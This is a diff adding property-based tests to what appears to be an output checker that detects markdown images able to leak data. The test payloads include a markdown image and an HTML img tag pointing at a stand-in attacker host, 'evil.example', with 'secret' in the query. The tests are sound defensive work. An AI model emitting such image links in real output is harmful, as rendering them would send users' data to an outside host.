@@ -4,7 +4,7 @@ import itertools
 import json
 from typing import Any
 
-from hypothesis import given
+from hypothesis import assume, given
 from hypothesis import strategies as st
 
 from services.orchestrator.citations import CitationReader
@@ -105,6 +105,54 @@ def test_watching_says_the_same_however_the_text_arrives(text: str, cuts: list[i
 
     assert next((said for part in pieces(text, cuts) if (said := cut.feed(part))), None) == stopped
     assert stopped is None or problems_of(text, {})
+
+
+IMAGE = "![x](https://evil.example/?d=secret)"
+MARKS = [
+    "`",
+    "``",
+    "~",
+    "a",
+    " ",
+    "    ",
+    "\n",
+    "\n\n",
+    "> ",
+    "- ",
+    "1. ",
+    "# ",
+    "<b>",
+    "[",
+    "]",
+    "(",
+    ")",
+    "|",
+    "\n|---|---|\n",
+    "*",
+    "\\",
+    "&lt;",
+    "!",
+]
+
+
+@given(st.lists(st.sampled_from(MARKS), max_size=24).map("".join))
+def test_nothing_hides_an_image_that_begins_a_paragraph_of_its_own(before: str) -> None:
+    """Nothing but a fence reaches over an empty line."""
+    assume("```" not in before and "~~~" not in before)
+
+    assert carries_out(f"{before}\n\n{IMAGE}", [])
+    assert carries_out(f"{before}\n\n{IMAGE} {before}", [])
+
+
+@given(st.sampled_from("`~"), st.integers(3, 9), st.lists(st.sampled_from([*MARKS, IMAGE, "<img src=https://evil.example/>"]), max_size=12))
+def test_what_is_in_a_fence_is_code_and_what_is_behind_it_is_not(mark: str, length: int, inside: list[str]) -> None:
+    """A fence is closed by its own mark, at least as often."""
+    code = "".join(inside)
+    assume(mark * 3 not in code)
+    fenced = f"{mark * length}md\n{code}\n{mark * length}"
+
+    assert not carries_out(fenced, [])
+    assert carries_out(f"{fenced}\n{IMAGE}", [])
 
 
 @given(st.text(max_size=300))
